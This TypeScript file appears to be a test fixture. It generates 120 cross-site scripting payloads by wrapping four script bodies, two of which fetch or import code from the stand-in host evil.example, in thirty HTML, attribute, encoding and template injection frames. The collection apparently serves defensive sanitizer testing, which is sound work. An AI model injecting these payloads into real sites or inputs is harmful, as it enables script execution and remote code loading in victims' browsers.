/** Bodies of attacks: each stands in every frame below. */
const scripts = ['alert(1)', 'top.hurt=1', 'fetch(`//evil.example`)', 'import(`//evil.example`)'] as const

const frames: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'-${script}-'`,
  (script) => `";${script}//`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `"><img src=x onerror="${script}">`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text y=9>x`,
  (script) => `<body onload=${script}>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="java&#115;cript:${script}">x</a>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}></video>`,
  (script) => `<math><mtext><style><img src=x onerror=${script}></style>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<style>@import "//evil.example";</style><b onclick=${script}>`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `\${${script}}`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `]]></style><script>${script}</script>`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `javascript:${script}`,
]

/** A hundred and twenty texts that would be code if a screen, a page, a mail or a file took them for it. */
export const hostileTexts: readonly string[] = frames.flatMap((frame) => scripts.map(frame))
